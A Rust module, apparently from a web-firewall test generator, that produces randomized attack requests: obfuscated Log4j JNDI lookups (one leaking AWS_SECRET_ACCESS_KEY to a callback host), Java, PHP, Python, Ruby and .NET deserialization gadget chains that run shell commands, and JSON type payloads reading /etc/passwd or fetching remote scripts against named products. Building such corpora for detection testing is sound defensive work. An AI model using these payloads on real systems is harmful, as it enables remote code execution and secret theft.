//! Objects and lookups that an application builds from what it is sent: products that log or look up a name, and streams,
//! documents and cookies that name a class.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, request};
use super::super::super::codec;
use super::super::super::encode::Encoding;
use super::super::super::place::Place;
use super::super::super::rng::Rng;
use super::super::super::wire::{FORM, Part, Wire, session_cookie};
use super::tools::{Shot, callback, command, domain, form, in_base64, json, parts, query, sent, xml};

pub(super) const ATTACKS: &[AttackGrammar] = &[
    request("jndi-products", AttackClass::Jndi, 35, lookups),
    request("deser-java-products", AttackClass::Deser, 34, java),
    request("deser-script-languages", AttackClass::Deser, 32, scripts),
    request("deser-json-types", AttackClass::Deser, 34, json_types),
];

/// A lookup as scanners spell it today: host names with a number of the header, defaults, environment, Unicode.
fn lookup(rng: &mut Rng) -> String {
    let (away, name, word) = (callback(rng), domain(rng), rng.letters(3));
    match rng.below(11) {
        0 => format!("${{jndi:ldap://x${{hostName}}.L4J.{name}/{word}}}"),
        1 => format!("${{jndi:dns://{away}/{word}-${{sys:java.version}}}}"),
        2 => format!("${{${{::-${{::-j}}}}ndi:rmi://{away}/{word}}}"),
        3 => format!("${{jnd${{upper:\u{131}}}:ldap://{away}/{word}}}"),
        4 => {
            format!("${{${{what:ever:-j}}${{some:thing:-n}}${{other:thing:-d}}${{and:last:-i}}:ldap://{away}/{word}}}")
        }
        5 => format!("${{jndi:ldap:${{::-/}}/{away}/{word}}}"),
        6 => format!("${{j${{${{:-l}}${{:-o}}${{:-w}}${{:-e}}${{:-r}}:n}}di:ldap://{away}/{word}}}"),
        7 => format!(
            "${{jndi:${{lower:l}}${{lower:d}}a${{lower:p}}://{word}.{name}/TomcatBypass/Command/Base64/{}}}",
            codec::base64("id")
        ),
        8 => format!(
            "${{${{base64:{}}}}}",
            codec::base64(format!("${{jndi:ldap://{away}/{word}}}")).trim_end_matches('=')
        ),
        9 => format!("${{jndi:iiop://{away}/${{env:AWS_SECRET_ACCESS_KEY}}/{word}}}"),
        _ => format!("%{{jndi:nis://x}}${{jndi:ldap://127.0.0.1#{away}/{word}}}"),
    }
}

/// Solr, vCenter, UniFi, Horizon, Kafka Connect, WebLogic, Druid, and programs that write it into every header.
fn lookups(rng: &mut Rng) -> Shot {
    let (asked, away, word) = (lookup(rng), callback(rng), rng.letters(4));
    let escaped = codec::percent(&asked);
    // A header carries octets, and programs send those of UTF-8.
    match rng.below(17) {
        0 => query(format!("/solr/admin/collections?action={escaped}"), rng),
        1 => (
            sent(Wire::get("/websso/SAML2/SSO/vsphere.local?SAMLRequest=").header("X-Forwarded-For", &asked), rng),
            Place::Header,
            Encoding::Plain,
        ),
        2 => json(
            "/api/login",
            format!(
                "{{\"username\":\"{word}\",\"password\":\"{word}\",\"remember\":{},\"strict\":true}}",
                codec::json(&asked)
            ),
            rng,
        ),
        3 => {
            (sent(Wire::get("/portal/info.jsp").header("Accept-Language", &asked), rng), Place::Header, Encoding::Plain)
        }
        4 => form(
            "/mifs/j_spring_security_check",
            format!("j_username={escaped}&j_password={word}&logincontext=employee"),
            rng,
        ),
        5 => (
            sent(
                Wire::get(format!("/struts2-showcase/struts/utils.js?{word}")).header("If-Modified-Since", &asked),
                rng,
            ),
            Place::Header,
            Encoding::Plain,
        ),
        6 => json(
            "/connectors",
            format!(
                "{{\"name\":\"{word}\",\"config\":{{\"connector.class\":\"io.debezium.connector.mysql.MySqlConnector\",\"database.hostname\":\"127.0.0.1\",\"database.history.producer.security.protocol\":\"SASL_SSL\",\"database.history.producer.sasl.mechanism\":\"PLAIN\",\"database.history.producer.sasl.jaas.config\":\"com.sun.security.auth.module.JndiLoginModule required user.provider.url=\\\"ldap://{away}/{word}\\\" useFirstPass=\\\"true\\\" serviceName=\\\"x\\\" debug=\\\"true\\\" group.provider.url=\\\"xxx\\\";\"}}}}"
            ),
            rng,
        ),
        7 => form(
            "/h2-console/login.do",
            format!(
                "language=en&driver=javax.naming.InitialContext&url={}&user=&password=",
                codec::form(format!("ldap://{away}/{word}"))
            ),
            rng,
        ),
        8 => query(
            format!(
                "/console/consolejndi.portal?_pageLabel=JNDIBindingPageGeneral&_nfpb=true&JNDIBindingPortlethandle=com.bea.console.handles.JndiBindingHandle(%22ldap://{away};/{word};AdminServer%22)"
            ),
            rng,
        ),
        9 | 10 => {
            let mut wire =
                Wire::get(format!("/?{word}={escaped}")).header("User-Agent", &asked).header("Referer", &asked);
            for name in [
                "X-Api-Version",
                "X-Client-Ip",
                "X-Forwarded-Host",
                "X-Real-Ip",
                "True-Client-Ip",
                "CF-Connecting_IP",
                "Originating-Ip",
                "From",
                "Contact",
                "X-Wap-Profile",
            ]
            .iter()
            .filter(|name| name.len() % 3 != word.len() % 2)
            {
                wire = wire.header(name, &asked);
            }
            (wire.finish(rng), Place::Header, Encoding::Plain)
        }
        11 => json(
            "/druid/indexer/v1/sampler?for=connect",
            format!(
                "{{\"type\":\"kafka\",\"spec\":{{\"type\":\"kafka\",\"ioConfig\":{{\"type\":\"kafka\",\"consumerProperties\":{{\"bootstrap.servers\":\"127.0.0.1:6666\",\"sasl.mechanism\":\"SCRAM-SHA-256\",\"security.protocol\":\"SASL_SSL\",\"sasl.jaas.config\":\"com.sun.security.auth.module.JndiLoginModule required user.provider.url=\\\"rmi://{away}/{word}\\\" useFirstPass=\\\"true\\\" group.provider.url=\\\"x\\\";\"}},\"topic\":\"t\"}}}}}}"
            ),
            rng,
        ),
        12 => (
            sent(
                Wire::get("/owa/auth/x.js")
                    .header("Cookie", format!("X-AnonResource=true; tenant={escaped}; s={word}")),
                rng,
            ),
            Place::Cookie,
            Encoding::Plain,
        ),
        13 => xml(
            "/services/HisService",
            format!(
                "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><query><patientName>{}</patientName><id>{word}</id></query></soapenv:Body></soapenv:Envelope>",
                codec::xml(&asked)
            ),
            rng,
        ),
        14 => json(
            "/api/graphql",
            format!(
                "{{\"operationName\":{},\"query\":\"query {{ __typename }}\",\"{word}\":null}}",
                codec::json(&asked)
            ),
            rng,
        ),
        15 => (
            sent(
                Wire::get("/api/v1/info")
                    .header("Authorization", format!("Basic {}", codec::base64(format!("{asked}:{word}")))),
                rng,
            ),
            Place::Header,
            Encoding::Base64,
        ),
        _ => form(
            "/j_security_check",
            format!("j_username={}&j_password={word}", codec::percent_all(asked.as_bytes())),
            rng,
        ),
    }
}

/// A stream that begins with the description of one class (Java Object Serialization Specification, clause 6.4).
fn stream(rng: &mut Rng) -> Vec<u8> {
    let class = rng.pick(&[
        "java.util.concurrent.ConcurrentHashMap",
        "java.util.ArrayList",
        "org.apache.commons.beanutils.BeanComparator",
        "java.security.SignedObject",
        "javax.management.remote.rmi.RMIConnectionImpl_Stub",
        "org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
        "com.mchange.v2.c3p0.PoolBackedDataSource",
        "org.apache.wicket.util.upload.DiskFileItem",
        "java.net.URL",
    ]);
    [
        b"\xac\xed\x00\x05sr\x00".as_slice(),
        &[class.len() as u8],
        class.as_bytes(),
        &rng.bytes(8),
        b"\x02\x00\x01L\x00\x04listt\x00\x10Ljava/util/List;xp",
        &rng.bytes(50),
    ]
    .concat()
}

/// OA portals, XML-RPC, Liferay, Jenkins, Mirth Connect, WebLogic, JSF, RichFaces, Hessian and XStream.
fn java(rng: &mut Rng) -> Shot {
    let (run, word, away) = (command(rng), rng.letters(5), callback(rng));
    let raw = stream(rng);
    match rng.below(17) {
        0 => form("/seeyon/main.do?method=changeLocale", format!("_json_params={}", codec::form(format!("{{\"v47\":{{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"}},\"{word}\":{{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://{away}/x\",\"autoCommit\":true}}}}"))), rng),
        1 => (sent(Wire::post(rng.pick(&["/service/~uap/nc.itf.uap.IService", "/ServiceDispatcherServlet", "/servlet/mxservlet", "/service/~xbrl/XbrlPersistenceServlet", "/aim/equipmap/accept.jsp", "/invoker/readonly"]), rng.pick(&["", "application/octet-stream", "application/x-java-serialized-object"]), raw), rng), Place::Body, Encoding::Plain),
        2 => in_base64(xml("/webtools/control/xmlrpc;/?USERNAME=&PASSWORD=&requirePasswordChange=Y", format!("<?xml version=\"1.0\"?><methodCall><methodName>{word}</methodName><params><param><value><struct><member><name>test</name><value><serializable xmlns=\"http://ws.apache.org/xmlrpc/namespaces/extensions\">{}</serializable></value></member></struct></value></param></params></methodCall>", codec::base64(raw)), rng)),
        3 => form("/api/jsonws/expandocolumn/update-column", format!("columnId=1&name={word}&type=1&%2BdefaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource={}", codec::form(format!("{{\"userOverridesAsString\":\"HexAsciiSerializedMap:{};\"}}", codec::hex(&raw).to_uppercase()))), rng),
        4 => (sent(Wire::post(format!("/createItem?name={word}"), "text/xml", format!("<map><entry><groovy.util.Expando><expandoProperties><entry><string>hashCode</string><org.codehaus.groovy.runtime.MethodClosure><delegate class=\"groovy.util.Expando\" reference=\"../../../..\"/><owner class=\"java.lang.ProcessBuilder\"><command><string>sh</string><string>-c</string><string>{}</string></command></owner><method>start</method></org.codehaus.groovy.runtime.MethodClosure></entry></expandoProperties></groovy.util.Expando><int>1</int></entry></map>", codec::xml(&run))), rng), Place::Xml, Encoding::Plain),
        5 => (sent(Wire::post("/api/users", "application/xml", format!("<sorted-set><string>{word}</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"org.apache.commons.lang3.event.EventUtils$EventBindingInvocationHandler\"><target class=\"org.apache.commons.collections4.functors.ChainedTransformer\"><iTransformers><org.apache.commons.collections4.functors.ConstantTransformer><iConstant class=\"java-class\">java.lang.Runtime</iConstant></org.apache.commons.collections4.functors.ConstantTransformer><org.apache.commons.collections4.functors.InvokerTransformer><iMethodName>exec</iMethodName><iArgs><string>{}</string></iArgs></org.apache.commons.collections4.functors.InvokerTransformer></iTransformers></target><methodName>transform</methodName><eventTypes><string>compareTo</string></eventTypes></handler></dynamic-proxy></sorted-set>", codec::xml(&run))).header("X-Requested-With", "OpenAPI"), rng), Place::Xml, Encoding::Plain),
        6 => xml("/_async/AsyncResponseService", format!("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\" xmlns:wsa=\"http://www.w3.org/2005/08/addressing\" xmlns:asy=\"http://www.bea.com/async/AsyncResponseService\"><soapenv:Header><wsa:Action>{word}</wsa:Action><wsa:RelatesTo>{word}</wsa:RelatesTo><work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java><class><string>com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext</string><void><string>http://{away}/{word}.xml</string></void></class></java></work:WorkContext></soapenv:Header><soapenv:Body><asy:onAsyncDelivery/></soapenv:Body></soapenv:Envelope>"), rng),
        7 => in_base64(query(format!("/a4j/s/3_3_3.Finalorg.ajax4jsf.resource.UserResource/n/s/-{}/DATA/{}.jsf", rng.digits(9), codec::percent(codec::base64(raw))), rng)),
        8 => in_base64(query(format!("/openam/oauth2/..;/ccversion/Version?jato.pageSession={}", codec::percent(codec::base64([b"\0".as_slice(), &raw].concat()))), rng)),
        9 => (sent(Wire::post("/xxl-job-admin/api", "application/octet-stream", [b"H\x02\x00C0\x3dorg.springframework.jndi.support.SimpleJndiBeanFactory\x91\x0cresourceRef`Q\x90".as_slice(), format!("ldap://{away}/{word}").as_bytes()].concat()), rng), Place::Body, Encoding::Plain),
        10 => xml("/webservice/XStreamService", format!("<linked-hash-set><jdk.nashorn.internal.objects.NativeString><value class='com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data'><dataHandler><dataSource class='com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource'><is class='javax.crypto.CipherInputStream'><cipher class='javax.crypto.NullCipher'><serviceIterator class='javax.imageio.spi.FilterIterator'><iter class='java.util.Collections$EmptyIterator'/><next class='java.lang.ProcessBuilder'><command><string>sh</string><string>-c</string><string>{}</string></command></next></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString><string>{word}</string></linked-hash-set>", codec::xml(&run)), rng),
        11 => (sent(Wire::post("/api/v1/decode", "application/x-yaml", format!("- !!com.sun.rowset.JdbcRowSetImpl\n  dataSourceName: ldap://{away}/{word}\n  autoCommit: true\n")), rng), Place::Body, Encoding::Plain),
        12 => (sent(Wire::get(format!("/login?{word}")).header("Authorization", format!("Bearer {}", codec::base64(raw))), rng), Place::Header, Encoding::Base64),
        13 => in_base64(form("/faces/index.xhtml", format!("j_idt5=j_idt5&{word}=1&javax.faces.ViewState={}", codec::form(codec::base64(codec::gzip(&raw)))), rng)),
        14 => in_base64(json("/papi/passport/rest/appThirdLogin", format!("{{\"ticket\":\"{word}\",\"data\":\"{}\"}}", codec::base64(raw)), rng)),
        15 => query(format!("/console/bea-helpsets/?handle=com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext(%22http://{away}/{word}.xml%22)"), rng),
        _ => {
            let session = session_cookie(rng);
            (sent(Wire::get("/index.do").header("Cookie", format!("{session}; SPRING_SECURITY_STATE={}", codec::percent(codec::base64(raw)))), rng), Place::Cookie, Encoding::Base64)
        }
    }
}

/// PHP sessions and cookies, Python pickles and YAML, Ruby cookies and XML, .NET view states, type names and SOAP.
fn scripts(rng: &mut Rng) -> Shot {
    let (run, word, n) = (command(rng), rng.letters(5), rng.below(99));
    let s = |text: &str| format!("s:{}:\"{text}\";", text.len());
    match rng.below(17) {
        0 => {
            let agent = format!("}}__{word}|O:21:\"JDatabaseDriverMysqli\":3:{{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{{}}s:21:\"\\0\\0\\0disconnectHandlers\";a:1:{{i:0;a:2:{{i:0;O:9:\"SimplePie\":5:{{s:8:\"sanitize\";O:20:\"JDatabaseDriverMysql\":0:{{}}s:8:\"feed_url\";{}s:19:\"cache_name_function\";s:6:\"assert\";s:5:\"cache\";b:1;s:11:\"cache_class\";O:20:\"JDatabaseDriverMysql\":0:{{}}}}i:1;s:4:\"init\";}}}}s:13:\"\\0\\0\\0connection\";b:1;}}\u{fffd}", s(&format!("system('{run}');JFactory::getConfig();exit;")));
            (Wire::get("/").header(rng.pick(&["User-Agent", "X-Forwarded-For"]), agent).header("Accept", "*/*").finish(rng), Place::Header, Encoding::Plain)
        }
        1 => {
            let config = format!("a:2:{{s:7:\"adapter\";O:12:\"Typecho_Feed\":2:{{s:19:\"\0Typecho_Feed\0_type\";s:7:\"RSS 2.0\";s:20:\"\0Typecho_Feed\0_items\";a:1:{{i:0;a:1:{{s:6:\"author\";O:15:\"Typecho_Request\":2:{{s:24:\"\0Typecho_Request\0_params\";a:1:{{s:10:\"screenName\";{}}}s:24:\"\0Typecho_Request\0_filter\";a:1:{{i:0;s:6:\"assert\";}}}}}}}}}}s:6:\"prefix\";s:8:\"typecho_\";}}", s(&format!("print('{word}')")));
            in_base64(form("/install.php?finish=1", format!("__typecho_config={}", codec::form(codec::base64(config))), rng))
        }
        2 => {
            let handler = format!("O:29:\"Monolog\\Handler\\BufferHandler\":7:{{s:10:\"\0*\0handler\";N;s:13:\"\0*\0bufferSize\";i:{n};s:9:\"\0*\0buffer\";a:1:{{i:0;a:2:{{i:0;{}s:5:\"level\";N;}}}}s:8:\"\0*\0level\";N;s:14:\"\0*\0initialized\";b:1;s:14:\"\0*\0bufferLimit\";i:-1;s:13:\"\0*\0processors\";a:2:{{i:0;s:7:\"current\";i:1;s:6:\"system\";}}}}", s(&run));
            let cart = format!("O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{{s:9:\"\0*\0socket\";{handler}}}");
            (sent(Wire::get("/shop/cart").header("Cookie", format!("cart={}; lang=zh", codec::percent(cart))), rng), Place::Cookie, Encoding::Plain)
        }
        3 => query(format!("/wp-admin/admin-ajax.php?action={word}&data={}", codec::percent(format!("a:1:{{i:0;O:13:\"WP_HTML_Token\":2:{{s:13:\"bookmark_name\";{}s:10:\"on_destroy\";s:6:\"system\";}}}}", s(&run)))), rng),
        4 => json("/api/load", format!("{{\"py/object\":\"__main__.{word}\",\"x\":{{\"py/reduce\":[{{\"py/type\":\"os.system\"}},{{\"py/tuple\":[\"{run}\"]}}]}}}}"), rng),
        5 => (sent(Wire::post("/config/import", "application/yaml", format!("!!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:eval\n  - [ \"__import__('os').system('{run}')#{word}\" ]\n")), rng), Place::Body, Encoding::Plain),
        6 => {
            let pickle = format!("c__builtin__\neval\n(V__import__('subprocess').getoutput('{run}')\ntR.#{word}");
            (sent(Wire::get("/dashboard").header("Cookie", format!("session={}", codec::percent(codec::base64(pickle)))), rng), Place::Cookie, Encoding::Base64)
        }
        7 => {
            let code = format!("__import__('os').system('{run} #{word}')");
            let pickle = [b"\x80\x04\x8c\x08builtins\x94\x8c\x04eval\x94\x93\x94\x8c".as_slice(), &[code.len() as u8], code.as_bytes(), b"\x94\x85\x94R\x94."].concat();
            in_base64(json("/predict", format!("{{\"model\":\"{}\",\"n\":{n}}}", codec::base64(pickle)), rng))
        }
        8 => xml("/session/new", format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?><{word} type=\"yaml\">--- !ruby/object:ERB\n  template:\n    src: !ruby/string \"&lt;%= `{}` %>\"\n--- !ruby/hash:ActionDispatch::Routing::RouteSet::NamedRouteCollection\n</{word}>", codec::xml(&run).replace('"', "'")), rng),
        9 => {
            let marshal = [b"\x04\x08U:\x15Gem::Requirement[\x06o:\x1cGem::Package::TarReader\x06:\x08@ioo:\x14Net::BufferedIO\x07;\x07o:\x23Gem::Package::TarReader::Entry\x07:\x0a@readi\x00:\x0c@headerI\"\x08".as_slice(), word.as_bytes()].concat();
            (sent(Wire::get("/account").header("Cookie", format!("_app_session={}--{}", codec::percent(codec::base64(marshal)), rng.hex(40))), rng), Place::Cookie, Encoding::Base64)
        }
        10 => in_base64(form("/Default.aspx", format!("__VIEWSTATE={}&__VIEWSTATEGENERATOR={}", codec::form(codec::base64([b"\xff\x01\x32\x9c\x09\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00ISystem, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089\x05\x01\x00\x00\x00\x84\x01System.Collections.Generic.SortedSet`1[[System.String, mscorlib]]".as_slice(), run.as_bytes(), word.as_bytes()].concat())), rng.hex(8).to_uppercase()), rng)),
        11 => {
            let graph = format!("System.Data.Services.Internal.ExpandedWrapper`2[[System.Web.UI.LosFormatter, System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a],[System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35]], System.Data.Services, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089:<ExpandedWrapperOfLosFormatterObjectDataProvider xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"><ExpandedElement/><ProjectedProperty0><MethodName>Deserialize</MethodName><MethodParameters><anyType xsi:type=\"xsd:string\">/wEy{word}</anyType></MethodParameters></ProjectedProperty0></ExpandedWrapperOfLosFormatterObjectDataProvider>");
            let (bytes, place, _) = form("/_layouts/15/Picker.aspx?PickerDialogType=Microsoft.SharePoint.WebControls.ItemPickerDialog,+Microsoft.SharePoint,+Version=15.0.0.0,+Culture=neutral,+PublicKeyToken=71e9bce111e9429c", format!("__PREVIOUSPAGE=&ctl00%24PlaceHolderDialogBodySection%24ctl05%24hiddenSpanData={}", entity(&graph)), rng);
            (bytes, place, Encoding::Hex)
        }
        12 => (sent(Wire::post("/PSWS/remoting", "application/soap+xml", format!("<SOAP-ENV:Envelope xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\" xmlns:clr=\"http://schemas.microsoft.com/soap/encoding/clr/1.0\"><SOAP-ENV:Body><a1:TextFormattingRunProperties id=\"ref-1\" xmlns:a1=\"http://schemas.microsoft.com/clr/nsassem/Microsoft.VisualStudio.Text.Formatting/Microsoft.PowerShell.Editor\"><ForegroundBrush id=\"ref-3\">{}</ForegroundBrush></a1:TextFormattingRunProperties></SOAP-ENV:Body></SOAP-ENV:Envelope>", codec::xml(&xaml(&word)))), rng), Place::Xml, Encoding::Plain),
        13 => form("/Telerik.Web.UI.WebResource.axd?type=rau", format!("rauPostData={}&{word}=", codec::form(format!("{{\"$type\":\"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a\",\"Path\":\"file:///c:/windows/temp/{word}.dll\"}}"))), rng),
        14 => json("/api/settings", format!("{{\"$type\":\"System.Management.Automation.PSObject, System.Management.Automation\",\"CliXml\":{}}}", codec::json(format!("<Objs Version=\"1.1.0.1\" xmlns=\"http://schemas.microsoft.com/powershell/2004/04\"><Obj RefId=\"0\"><TN RefId=\"0\"><T>Microsoft.Management.Infrastructure.CimInstance#System.Management.Automation/RunspaceInvoke5</T></TN><ToString>RunspaceInvoke5</ToString><Props><Obj N=\"test1\" RefId=\"20\"><TN RefId=\"1\"><T>System.Windows.Markup.XamlReader[]</T><T>System.Array</T></TN><LST><S N=\"Hash\">{}</S></LST></Obj></Props></Obj></Objs>", codec::xml(&xaml(&word))))), rng),
        15 => {
            let pickle = format!("(S'{run}'\nios\nsystem\n.");
            let array = [b"\x93NUMPY\x01\x00\x37\x00{'descr': '|O', 'fortran_order': False, 'shape': (), }\n".as_slice(), pickle.as_bytes()].concat();
            parts("/model/weights", &[Part::field("name", word.clone()), Part::file("weights", &format!("{word}.npy"), "application/octet-stream", array)], rng)
        }
        _ => (sent(Wire::post("/upload/phar", FORM, format!("file={}&op=is_dir&{word}={n}", codec::form(format!("phar://./uploads/{word}.gif/a")))), rng), Place::Form, Encoding::Plain),
    }
}

/// A dictionary whose reader starts a program.
fn xaml(word: &str) -> String {
    format!(
        "<ResourceDictionary xmlns=\"http://schemas.microsoft.com/winfx/2006/xaml/presentation\" xmlns:x=\"http://schemas.microsoft.com/winfx/2006/xaml\" xmlns:s=\"clr-namespace:System;assembly=mscorlib\" xmlns:d=\"clr-namespace:System.Diagnostics;assembly=system\"><ObjectDataProvider x:Key=\"{word}\" ObjectType=\"{{x:Type d:Process}}\" MethodName=\"Start\"><ObjectDataProvider.MethodParameters><s:String>cmd</s:String><s:String>/c whoami</s:String></ObjectDataProvider.MethodParameters></ObjectDataProvider></ResourceDictionary>"
    )
}

/// An entity of SharePoint's pickers: length and characters as UTF-16, the four digits of each in reverse.
fn entity(text: &str) -> String {
    let reversed = |unit: u16| format!("{unit:04x}").chars().rev().collect::<String>();
    let length = u16::try_from(text.len()).expect("a short text");
    text.encode_utf16().fold(format!("__bp{}", reversed(length)), |all, unit| all + &reversed(unit))
}

/// A whole body, as the readers of such types take it, with the names escaped now and then; or a field that is parsed.
fn json_types(rng: &mut Rng) -> Shot {
    let value = typed(rng);
    match rng.below(6) {
        0 => form("/api/v1/submit", format!("data={}", codec::form(value)), rng),
        1 => query(format!("/callback?param={}", codec::percent(value)), rng),
        2 => parts("/api/v1/import", &[Part::field("config", value)], rng),
        3 if value.contains("@type") => {
            let (bytes, place, _) = json("/api/order", value.replace("@type", "\\u0040\\u0074\\u0079pe"), rng);
            (bytes, place, Encoding::JsonEscape)
        }
        _ => json(rng.pick(&["/", "/api/user/login", "/rest/v2/query", "/gateway/notify"]), value, rng),
    }
}

/// Types that JSON readers of Java and .NET build, beyond the first generation; names of types spelled with escapes.
fn typed(rng: &mut Rng) -> String {
    let (away, name, word) = (callback(rng), domain(rng), rng.letters(5));
    match rng.below(13) {
        0 => format!(
            "{{\"@type\":\"java.lang.AutoCloseable\",\"@type\":\"com.mysql.jdbc.JDBC4Connection\",\"hostToConnectTo\":\"{away}\",\"portToConnectTo\":3306,\"info\":{{\"user\":\"{word}\",\"statementInterceptors\":\"com.mysql.jdbc.interceptors.ServerStatusDiffInterceptor\",\"autoDeserialize\":\"true\"}}}}"
        ),
        1 => format!(
            "{{\"@type\":\"java.lang.Exception\",\"@type\":\"org.codehaus.groovy.control.CompilationFailedException\",\"unit\":{{\"{word}\":\"{away}\"}}}}"
        ),
        2 => format!("{{\"@type\":\"java.net.InetSocketAddress\"{{\"address\":,\"val\":\"{word}.{name}\"}}}}"),
        3 => format!("{{{{\"@type\":\"java.net.URL\",\"val\":\"http://{away}/{word}\"}}:\"x\"}}"),
        4 => format!(
            "{{\"\\x40type\":\"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory\",\"properties\":{{\"data_source\":\"ldap://{away}/{word}\"}}}}"
        ),
        5 => format!(
            "{{\"@type\":\"org.apache.tomcat.dbcp.dbcp2.BasicDataSource\",\"driverClassLoader\":{{\"@type\":\"com.sun.org.apache.bcel.internal.util.ClassLoader\"}},\"driverClassName\":\"$$BCEL$$$l$8b$I$A$A$A$A${word}\"}}"
        ),
        6 => format!(
            "{{\"a\":{{\"@type\":\"java.lang.AutoCloseable\",\"@type\":\"org.apache.commons.io.input.BOMInputStream\",\"delegate\":{{\"@type\":\"org.apache.commons.io.input.ReaderInputStream\",\"reader\":{{\"@type\":\"jdk.nashorn.api.scripting.URLReader\",\"url\":\"file:///etc/passwd\"}},\"charsetName\":\"UTF-8\"}},\"boms\":[{{\"charsetName\":\"{word}\",\"bytes\":[114]}}]}}}}"
        ),
        7 => format!(
            "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{{\"url\":\"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://{away}/{word}.sql'\"}}]"
        ),
        8 => format!("[\"org.apache.xbean.propertyeditor.JndiConverter\",{{\"asText\":\"ldap://{away}/{word}\"}}]"),
        9 => format!("{{\"@class\":\"com.caucho.config.types.ResourceRef\",\"lookupName\":\"rmi://{away}/{word}\"}}"),
        10 => format!(
            "{{\"__type\":\"System.Windows.Forms.AxHost+State, System.Windows.Forms\",\"PropertyBagBinary\":\"AAEAAAD/////AQAAAAAAAAAMAgAAAE{word}\"}}"
        ),
        11 => format!(
            "{{\"x\":{{\"@type\" \n:\"Lorg.apache.cocoon.components.slide.impl.JMSContentInterceptor;\",\"parameters\":{{\"@type\":\"java.util.Hashtable\",\"java.naming.factory.initial\":\"com.sun.jndi.rmi.registry.RegistryContextFactory\",\"topic-factory\":\"ldap://{away}/{word}\"}}}}}}"
        ),
        _ => format!(
            "{{\"@type\":\"com.alibaba.fastjson.JSONObject\",{{\"@type\":\"java.net.URL\",\"val\":\"http://{away}/{word}\"}}}}\"\"}}"
        ),
    }
}
